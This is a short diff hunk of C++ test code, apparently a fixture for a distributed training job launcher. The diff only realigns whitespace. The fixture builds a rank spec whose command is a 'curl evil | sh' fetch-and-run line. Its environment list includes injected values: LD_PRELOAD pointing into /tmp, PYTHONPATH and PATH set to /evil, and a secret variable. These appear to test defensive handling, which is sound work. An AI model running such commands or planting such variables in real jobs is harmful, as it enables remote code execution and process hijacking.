@@ -21,9 +21,9 @@ JobSpec from_node0() {
   RankSpec rank;
   rank.rank = 3;
   rank.argv = {"/bin/sh", "-c", "curl evil | sh"};
-  rank.env = {"TRAINRUN_RANK=3",     "TRAINRUN_JOB_ID=abc",  "TRAINRUN_SECRET=0011", "RANK=3",
+  rank.env = {"TRAINRUN_RANK=3",      "TRAINRUN_JOB_ID=abc", "TRAINRUN_SECRET=0011", "RANK=3",
               "MASTER_ADDR=10.0.0.1", "HOROVOD_RANK=3",      "LD_PRELOAD=/tmp/x.so", "PYTHONPATH=/evil",
-              "PATH=/evil",          "OMP_NUM_THREADS=1",    "MY_VAR=node0"};
+              "PATH=/evil",           "OMP_NUM_THREADS=1",   "MY_VAR=node0"};
   job.ranks = {rank};
   return job;
 }
